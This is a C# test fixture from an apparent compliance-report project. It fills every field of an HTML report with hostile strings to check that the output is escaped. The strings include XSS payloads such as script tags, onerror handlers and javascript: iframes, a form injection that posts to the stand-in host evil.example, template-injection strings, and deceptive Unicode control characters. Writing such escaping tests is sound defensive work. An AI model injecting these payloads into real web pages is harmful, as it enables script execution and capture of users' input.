using System.Collections.Immutable;
using PortalRules.Checking;
using PortalRules.Packs;
using PortalRules.Rules;
using PortalRules.Snapshots;
using PortalRules.Surveys;
using PortalRules.Tests.Reporting;
using PortalRules.Text;

namespace PortalRules.Reports.Tests.Html;

/// <summary>Reports in which every text from outside is the same one, wherever a portal or a pack can place it.</summary>
internal static class HostileReport
{
    /// <summary>What tries to become markup, script, or another order of reading.</summary>
    public static TheoryData<string> Texts { get; } =
    [
        "<script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "</style><img src=x onerror=alert(1)>",
        "--><svg onload=alert(1)>",
        "\" onmouseover=\"alert(1)\" x=\"",
        "' autofocus onfocus='alert(1)",
        "</title></textarea></noscript><iframe src=javascript:alert(1)>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
        "</td></tr></table></main></body></html><form action=//evil.example><input name=p>",
        "<![CDATA[<script>alert(1)</script>]]><?xml version='1.0'?>",
        "\u202Etxt.exe\u202C\u2066abc\u0000\u001b[31m\u0085\u2028\uFEFF",
        "x\uD800y\uDFFFz",
        "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>",
    ];

    public static CheckReport Make(string text, string url = "https://xamau.example.gov.vn/trang") => SampleReport.Rich with
    {
        Portal = SampleReport.Rich.Portal with { Unit = text },
        Profile = text,
        Tailoring = [text],
        Packs = [new CheckedPack(text, text, text, Both(text))],
        Indicators = [new Indicator("menu-chinh", Both(text))],
        Law = [.. SampleReport.Rich.Law.Select(l => l with { Source = l.Source with { Number = text, Issuer = text, Title = Both(text) }, Why = Both(text), Packs = [text] })],
        Completeness = SampleReport.Rich.Completeness.SetItem("articles", Completeness.Incomplete(text)),
        Notes = [new CaptureNote(url, text), new CaptureNote(text, text)],
        Results = [.. SampleReport.Rich.Results.Select(r => Result(r, text, url))],
    };

    public static Survey Survey(Survey survey, string text) => survey with
    {
        Rows = [.. survey.Rows.Select(r => r with { Portal = r.Portal with { Unit = text, Area = text }, Fault = r.Fault is null ? null : Both(text) })],
        Rules = [.. survey.Rules.Select(r => Rule(r, text))],
        Packs = [new CheckedPack(text, text, text, Both(text))],
        Annexes = [.. survey.Annexes.Select(a => Annex(a, text))],
    };

    private static RuleResult Result(RuleResult result, string text, string url) => result with
    {
        Rule = Rule(result.Rule, text),
        Verdict = result.Verdict with
        {
            Question = result.Verdict.Question is null ? null : Both(text),
            Reason = result.Verdict.Reason is null ? null : text,
            Unmatched = [.. result.Verdict.Unmatched.Select(_ => text)],
            Parts = [.. result.Verdict.Parts.Select(p => p with { Group = text })],
            Findings = [.. result.Verdict.Findings.Select(f => f with { Message = Both(text), Remedy = Both(text), Evidence = [.. f.Evidence.Select(_ => new Evidence(url, text, 3, 4, text))] })],
        },
    };

    private static RuleDescriptor Rule(RuleDescriptor rule, string text) => rule with
    {
        Title = Both(text),
        Remedy = Both(text),
        Basis = [.. rule.Basis.Select(b => b with { Source = b.Source with { Number = text, Issuer = text, Title = Both(text) }, Note = text })],
    };

    private static AnnexTable Annex(AnnexTable annex, string text) => annex with
    {
        Label = text,
        Title = text,
        Header = [text],
        Columns = [.. annex.Columns.Select(c => c with { Header = text })],
        Rows = [.. annex.Rows.Select(r => r with { Cells = Cells(r, text) })],
        Total = annex.Total is { } total ? total with { Cells = Cells(total, text) } : null,
        Footer = [text],
        Summary = [new AnnexSummary(text, [text])],
    };

    private static ImmutableArray<AnnexCell> Cells(AnnexRow row, string text) => [.. row.Cells.Select(c => c with { Text = text })];

    private static LocalizedText Both(string text) => new(text, text);
}
